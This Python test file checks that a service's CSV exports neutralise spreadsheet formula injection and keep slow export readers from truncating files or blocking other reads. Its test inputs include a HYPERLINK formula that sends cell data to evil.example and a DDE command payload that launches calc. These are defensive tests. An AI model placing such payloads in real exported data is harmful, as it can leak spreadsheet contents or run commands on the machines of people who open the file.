"""CSV exports: no cell a spreadsheet would run, and a budget of their own, so that a slow
reader gets its whole file and many of them never hold up the interactive reads."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import AsyncIterator, Callable
from datetime import UTC, datetime

import asyncpg
import httpx
import pytest

from service.http.app import QUERY_TIMEOUT
from service.http.exports import FORMULA_START, Exports, csv_rows, csv_select, neutral
from tests.drill.snapshot import wait_until_caught_up
from tests.helpers import RunningService, api_token, bearer, token_headers

LIVENESS = 30.0  # seconds: generous, for a shared CI machine; never a speed requirement
csv.field_size_limit(2**24)  # the big exports below have 900 kB cells
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


# --- Cells ---------------------------------------------------------------------------------


def test_a_leading_formula_character_gets_a_quote() -> None:
    for start in FORMULA_START:
        assert neutral(start + "1+1") == "'" + start + "1+1"
    for safe in ("Ola", "", " =1", "'=1", "1-2", "ą=1", "\n=1"):
        assert neutral(safe) == safe


async def test_copy_cells_follow_the_rule_and_numbers_stay_numbers(database_url: str) -> None:
    texts = ["=1+1", "+1", "-12.50", "@SUM(A1)", "\tx", "\rx", "Ola", "{}"]
    query = (
        "SELECT v.t AS text_value, -12.50::numeric AS amount, -3::int AS n, -1.5::float8 AS f, "
        "'-5'::json AS j, true AS flag, '2026-05-14T09:12:03Z'::timestamptz AS at, "
        "NULL::text AS nothing FROM (VALUES (1, $1::text), (2, $2), (3, $3), (4, $4), (5, $5), "
        "(6, $6), (7, $7), (8, $8)) AS v(n, t) ORDER BY v.n"
    )
    conn = await asyncpg.connect(database_url)
    try:
        statement = await conn.prepare(query)
        written = io.BytesIO()

        async def write(chunk: bytes) -> None:
            written.write(chunk)

        await conn.copy_from_query(
            csv_select(query, statement.get_attributes()),
            *texts,
            output=write,
            format="csv",
            header=True,
        )
    finally:
        await conn.close()
    rows = list(csv.DictReader(io.StringIO(written.getvalue().decode(), newline="")))
    assert [row["text_value"] for row in rows] == [
        "'=1+1", "'+1", "'-12.50", "'@SUM(A1)", "'\tx", "'\rx", "Ola", "{}",
    ]  # fmt: skip
    assert {row["amount"] for row in rows} == {"-12.50"}  # numeric: a number, as it is
    assert {row["n"] for row in rows} == {"-3"} and {row["f"] for row in rows} == {"-1.5"}
    assert {row["j"] for row in rows} == {"'-5"}  # JSON is text to a spreadsheet
    assert {row["flag"] for row in rows} == {"true"}
    assert {row["at"] for row in rows} == {"2026-05-14T09:12:03Z"}
    assert {row["nothing"] for row in rows} == {""}


def test_cells_built_in_python_follow_the_same_rule() -> None:
    at = datetime(2026, 5, 14, 9, tzinfo=UTC)
    answer = csv_rows(["name", "n", "at"], [["=cmd", -12, at], ["Ola", 3, None]], "x.csv")
    rows = list(csv.reader(io.StringIO(bytes(answer.body).decode())))
    assert rows == [["name", "n", "at"], ["'=cmd", "-12", "2026-05-14T09:00:00Z"], ["Ola", "3", ""]]


def _person(attendee_id: str, first: str, last: str, email: str) -> bytes:
    return json.dumps(
        {
            "event": "AttendeeRegistered",
            "id": f"reg-{attendee_id}",
            "occurredAt": "2026-05-14T08:00:00Z",
            "attendee": {"id": attendee_id, "firstName": first, "lastName": last, "email": email},
        }
    ).encode()


def _payment(attendee_id: str, reference: str, method: str) -> bytes:
    payment = {"amount": "12.50", "currency": "PLN", "method": method, "reference": reference}
    return json.dumps(
        {
            "event": "AttendeePaymentConfirmed",
            "id": f"pay-{attendee_id}",
            "occurredAt": "2026-05-14T08:30:00Z",
            "attendee": {"id": attendee_id, "payment": payment},
        }
    ).encode()


async def test_roster_and_payments_exports_hold_no_formula(
    start_service: Callable[..., RunningService], database_url: str
) -> None:
    service = start_service()
    deliveries = [
        _person("a-1", HOSTILE_NAME, "+48 600 100 200", "@evil.example"),
        _person("a-2", "-2+3", "\tTab", "\r=1+1@example.com"),
        _person("a-3", "Ola", "Nowak", "ola@example.com"),
        _payment("a-1", "=1+1", "-cmd|' /C calc'!A0"),
        _payment("a-3", "P24-99812", "payu"),
    ]
    async with httpx.AsyncClient(base_url=service.url, timeout=LIVENESS) as client:
        for body in deliveries:
            answer = await client.post("/webhooks/jte", content=body, headers=token_headers())
            assert answer.json()["status"] == "accepted", answer.text
        wait_until_caught_up(database_url)
        client.headers.update(bearer(api_token(database_url)))
        roster = await client.get("/v1/events/default/roster?format=csv")
        payments = await client.get("/v1/events/default/payments", headers={"accept": "text/csv"})
        roster_json = (await client.get("/v1/events/default/roster")).json()["items"]

    people = {row["attendee_id"]: row for row in csv.DictReader(io.StringIO(roster.text))}
    assert people["a-1"]["first_name"] == "'" + HOSTILE_NAME
    assert people["a-1"]["last_name"] == "'+48 600 100 200"
    assert people["a-1"]["email"] == "'@evil.example"
    assert people["a-2"]["first_name"] == "'-2+3"
    assert people["a-2"]["last_name"] == "'\tTab"
    assert people["a-2"]["email"] == "'\r=1+1@example.com"
    assert people["a-3"]["first_name"] == "Ola"
    assert people["a-1"]["payment_method"] == "'-cmd|'_/c_calc'!a0"  # lowercased by the ledger
    assert people["a-1"]["amount"] == "12.50"
    for row in people.values():  # no cell at all begins with a formula character
        assert not any(cell.startswith(FORMULA_START) for cell in row.values() if cell), row
    ledger = list(csv.DictReader(io.StringIO(payments.text)))
    assert [(p["reference"], p["amount"]) for p in ledger] == [
        ("'=1+1", "12.50"),
        ("P24-99812", "12.50"),
    ]
    # JSON answers are not spreadsheets: they keep the exact values.
    assert {item["first_name"] for item in roster_json} >= {HOSTILE_NAME, "-2+3"}


# --- The export budget ---------------------------------------------------------------------

BIG_ROWS = 30
BIG_FIELD = 900_000  # bytes per attendee: a 27 MB export, as in the issue


async def _seed_big_roster(service: RunningService, database_url: str) -> str:
    """BIG_ROWS attendees with a 900 kB custom field each; a read token."""
    async with httpx.AsyncClient(base_url=service.url, timeout=LIVENESS) as client:
        for n in range(BIG_ROWS):
            body = json.dumps(
                {
                    "event": "AttendeeRegistered",
                    "id": f"big-{n}",
                    "attendee": {
                        "id": f"big-{n:02d}",
                        "lastName": f"Big{n:02d}",
                        "notes": "n" * BIG_FIELD,
                    },
                }
            ).encode()
            answer = await client.post("/webhooks/jte", content=body, headers=token_headers())
            assert answer.json()["status"] == "accepted", answer.text
    wait_until_caught_up(database_url, 120)
    return api_token(database_url)


class SlowReader:
    """One CSV export read over a real socket at the reader's pace."""

    def __init__(self, client: httpx.AsyncClient, path: str) -> None:
        self._client, self._path = client, path
        self.status = 0
        self.body = bytearray()
        self._stream: httpx.Response | None = None
        self._chunks: AsyncIterator[bytes] | None = None
        self._context: object = None

    async def begin(self) -> int:
        """Send the request and take the first chunk (or the whole error answer)."""
        context = self._client.stream("GET", self._path)
        self._context = context
        self._stream = await context.__aenter__()
        self.status = self._stream.status_code
        self._chunks = self._stream.aiter_raw()
        self.body += await anext(self._chunks)
        return self.status

    async def finish(self) -> None:
        """Read the rest (httpx raises if the server cut the body short)."""
        assert self._chunks is not None
        try:
            async for chunk in self._chunks:
                self.body += chunk
        finally:
            await self._context.__aexit__(None, None, None)  # type: ignore[attr-defined]

    def rows(self) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(self.body.decode())))


def _whole(rows: list[dict[str, str]]) -> bool:
    return len(rows) == BIG_ROWS and all(
        len(json.loads(row["fields"])["notes"]) == BIG_FIELD for row in rows
    )


async def test_a_slow_reader_gets_the_whole_export_and_reads_go_on(
    start_service: Callable[..., RunningService], database_url: str
) -> None:
    # Regression: the interactive pool's 5 s command timeout also cut the export's COPY, so
    # a reader slower than that got 200 and then a truncated file.
    service = start_service()
    token = await _seed_big_roster(service, database_url)
    async with httpx.AsyncClient(
        base_url=service.url, headers=bearer(token), timeout=LIVENESS
    ) as client:
        reader = SlowReader(client, "/v1/events/default/roster?format=csv")
        assert await reader.begin() == 200
        # The reader dawdles for longer than any interactive read may take; meanwhile the
        # interactive reads answer as always.
        for _ in range(int(QUERY_TIMEOUT) + 2):
            occupancy = await client.get("/v1/events/default/occupancy")
            assert occupancy.status_code == 200
            await asyncio.sleep(1)
        await reader.finish()
    assert _whole(reader.rows())


async def test_exports_over_the_budget_are_503_and_reads_go_on(
    start_service: Callable[..., RunningService], database_url: str
) -> None:
    service = start_service(export_connections=2)
    token = await _seed_big_roster(service, database_url)
    async with httpx.AsyncClient(
        base_url=service.url, headers=bearer(token), timeout=LIVENESS
    ) as client:
        paths = ["/v1/events/default/roster?format=csv"] * 6 + [
            "/v1/events/default/payments?format=csv"
        ] * 2
        readers = [SlowReader(client, path) for path in paths]
        statuses = [await reader.begin() for reader in readers]  # each held open, not read
        assert statuses == [200, 200] + [503] * 6
        for refused in readers[2:]:
            await refused.finish()
            answer = json.loads(refused.body)
            assert answer["error"] == "too_many_exports" and "2 exports" in answer["message"]
        # Every export connection is taken by a reader that is not reading: the
        # interactive reads are not affected.
        for path in ("/v1/events/default/occupancy", "/v1/events/default/roster?limit=5"):
            assert (await client.get(path)).status_code == 200
        for reader in readers[:2]:
            await reader.finish()
            assert _whole(reader.rows())
        again = SlowReader(client, "/v1/events/default/payments?format=csv")
        assert await again.begin() == 200, "the slots are free again"
        await again.finish()


@pytest.mark.parametrize(
    ("deadline", "stall"), [(1.0, 600.0), (600.0, 1.0)], ids=["deadline", "stalled client"]
)
async def test_an_export_that_cannot_finish_is_cut_never_short(
    start_service: Callable[..., RunningService], database_url: str, deadline: float, stall: float
) -> None:
    service = start_service(export_timeout=deadline, export_stall=stall)
    token = await _seed_big_roster(service, database_url)
    exports: Exports = service.app.state.exports
    async with httpx.AsyncClient(
        base_url=service.url, headers=bearer(token), timeout=LIVENESS
    ) as client:
        reader = SlowReader(client, "/v1/events/default/roster?format=csv")
        assert await reader.begin() == 200
        # The reader takes nothing; wait until the server has let go of the export.
        for _ in range(int(LIVENESS * 10)):
            if exports.running == 0:
                break
            await asyncio.sleep(0.1)
        assert exports.running == 0, "the export still holds its connection"
        with pytest.raises(httpx.RemoteProtocolError):  # an incomplete body, never a clean end
            await reader.finish()
        assert len(reader.rows()) < BIG_ROWS
        # The reads go on, and the slot and its connection serve the next export whole.
        assert (await client.get("/v1/events/default/occupancy")).status_code == 200
        if deadline > LIVENESS:
            fast = await client.get("/v1/events/default/roster?format=csv")
            assert fast.status_code == 200
            assert _whole(list(csv.DictReader(io.StringIO(fast.text))))
